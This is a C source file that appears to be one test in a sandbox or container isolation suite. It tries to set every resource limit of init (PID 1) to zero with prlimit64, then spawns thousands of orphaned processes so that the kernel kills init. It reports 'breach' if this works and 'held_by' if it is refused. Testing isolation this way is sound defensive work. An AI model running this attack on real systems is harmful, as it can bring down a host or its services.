/* Init's limits, down: the same user may set another process's, and the kernel ends whoever is over its own. */
#include "attack.h"

#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/wait.h>

int main(void)
{
	const struct rlimit none = {0, 0};
	int refused = 0;

	for (int resource = 0; resource < RLIM_NLIMITS; resource++)
		refused += syscall(SYS_prlimit64, 1, resource, &none, NULL) < 0;
	if (refused == RLIM_NLIMITS)
		held_by("prlimit64: %s", strerror(errno));
	/* work for init: its CPU limit is 0 by now */
	for (int i = 0; i < 3000; i++) {
		pid_t child = fork();

		if (child == 0) {
			fork();
			_exit(0);
		}
		waitpid(child, NULL, 0);
	}
	breach("init's limits were set");
}
